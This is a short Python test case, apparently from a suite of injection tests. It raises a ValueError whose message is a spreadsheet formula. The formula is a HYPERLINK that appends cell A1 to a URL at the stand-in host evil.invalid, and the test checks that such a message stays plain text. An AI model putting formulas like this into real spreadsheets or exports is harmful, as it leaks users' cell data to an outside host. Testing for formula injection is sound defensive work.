"""Raises an exception whose message is a formula to a spreadsheet.

Must hold: in the class's table it is text.

Family: injection.
"""

ENDS = {"A": "ValueError", "B": "ValueError", "C": "ValueError"}


def attack(world):
    raise ValueError('=HYPERLINK("http://evil.invalid/?" & A1, "see")')
